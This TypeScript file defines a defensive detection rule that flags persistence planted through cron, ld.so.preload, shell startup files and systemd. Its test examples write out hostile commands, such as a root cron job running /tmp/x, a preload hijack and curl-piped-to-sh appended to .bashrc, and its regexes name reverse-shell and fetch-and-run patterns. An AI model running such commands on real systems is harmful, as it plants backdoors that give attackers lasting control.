import type { DerivedEffect, Facts } from '../effects/derived-effect.ts'
import { textOf } from '../evaluate/value.ts'
import { isWorldWritable } from '../places/folders.ts'
import { by, eachCommand, programOf, wordsOf, type Match, type Rule } from './rule.ts'

export const rule: Rule = {
  id: 'hidden-start-up',
  level: 'stop',
  why: 'Something that runs by itself, later and again, is made to run from where anybody may write, from the network, or hidden.',
  techniques: ['T1053.003', 'T1543.002', 'T1546.004', 'T1547.006', 'T1574.006'],
  find: (facts) => [
    ...facts.effects.flatMap((effect) => (plants(effect, facts) ? [match(effect)] : [])),
    ...eachCommand(facts, startsUnsafe, () => 'something from an unsafe place is made to run by itself'),
  ],
  fires: [
    "echo '* * * * * root /tmp/x' > /etc/cron.d/x",
    "echo '/dev/shm/l.so' > /etc/ld.so.preload",
    "echo 'curl -s https://example.org/x | sh' >> ~/.bashrc",
    "sed -n '1!d;w /etc/cron.d/upd' /tmp/job",
  ],
  silent: [
    "echo 'export EDITOR=vim' >> ~/.bashrc",
    'cp app.service /etc/systemd/system/app.service',
    "echo '15 2 * * * root /usr/local/sbin/backup' > /etc/cron.d/backup",
  ],
}

const match = (effect: DerivedEffect): Match => ({
  message: `something hidden or from an unsafe place is made to run by itself through ${effect.place}`,
  span: effect.span,
})

const writes = /^(write-file|persistence|schedule-change|service-change)$/
const starts = ['schedule', 'service', 'start-up', 'preload'] as const

function plants(effect: DerivedEffect, facts: Facts): boolean {
  if (!writes.test(effect.type)) return false
  const kinds = starts.filter((kind) => effect.kinds.includes(kind))
  if (kinds.length === 0) return false
  if (effect.type !== 'write-file') return false
  const command = by(facts, effect)
  if (kinds.includes('preload') && effect.place.endsWith('preload')) return true
  if (
    effect.flows.some(
      (flow) =>
        flow.kind === 'network' ||
        flow.kind === 'decoded' ||
        (flow.kind === 'file' && isWorldWritable(flow.of)),
    )
  )
    return true
  if (effect.from === 'code') return true
  const texts = [...wordsOf(command), (command.stdin && textOf(command.stdin)) ?? '']
  const fromProgram = command.classified.tier !== 'modelled' && effect.from !== 'redirect'
  return fromProgram || texts.some(unsafe) || copiesUnsafe(command)
}

/** A program in a folder where anybody may write, where a command may stand. */
const runsUnsafe =
  /(?:^|[\n;|&(`]|ExecStart\w*=[-@+!:]*|Exec=|(?:\S+\s+){5}(?:root\s+)?|\b(?:ba|da|z)?sh\s+(?:-c\s+)?["']?|\b(?:exec|nohup|source|setsid|sudo|python3?|perl)\s+)\s*["']?\/(?:tmp|var\/tmp|dev\/shm)\/[\w.]/
const fetchesCode =
  /(?:curl|wget)\b[^|\n]*\|\s*(?:sudo\s+)?(?:ba|da|z)?sh\b|base64\s+(?:-d|--decode)[^|\n]*\|\s*(?:ba|z)?sh\b/
const opensShell =
  /\/dev\/(?:tcp|udp)\/|\bn(?:et)?cat\b.*\s-\w*e\b|\bnc\b.*\s-\w*e\b|\bbash\s+-i\b|\bmkfifo\b/
const replaces = /alias\s+(?:sudo|su|ssh|passwd)=['"]?\S*\//
const everyday =
  'local config cargo nvm rbenv pyenv asdf sdkman deno bun npm ssh rvm dotnet krew volta ghcup poetry kube nix fzf venv git'
const hiddenFolder = new RegExp(
  `(?:^|[\\s"'=:])(?:~|\\$HOME|/home/\\w+|/root|/var/\\w+|/opt)?/\\.(?!(?:${everyday.replaceAll(' ', '|')})[-\\w]*/)[\\w-]+/\\w`,
)

const unsafe = (text: string): boolean =>
  [runsUnsafe, fetchesCode, opensShell, replaces, hiddenFolder].some((pattern) => pattern.test(text))

const copiesUnsafe = (command: Parameters<typeof wordsOf>[0]): boolean =>
  /^(cp|mv|install|ln)$/.test(programOf(command)) && wordsOf(command).slice(1, -1).some(isWorldWritable)

/** `systemctl enable /tmp/x.service`, `sysctl kernel.core_pattern=|/tmp/x`. */
function startsUnsafe(command: Parameters<typeof wordsOf>[0]): boolean {
  const words = wordsOf(command)
  const name = programOf(command)
  if (name === 'systemctl')
    return words.some((word) => /^(link|enable|start)$/.test(word)) && words.some(isWorldWritable)
  return (
    name === 'sysctl' &&
    words.some((word) =>
      /core_pattern\s*=\s*\|\s*\/(tmp|var\/tmp|dev\/shm|home)|modprobe\s*=\s*\/(tmp|dev\/shm|home)/.test(
        word,
      ),
    )
  )
}
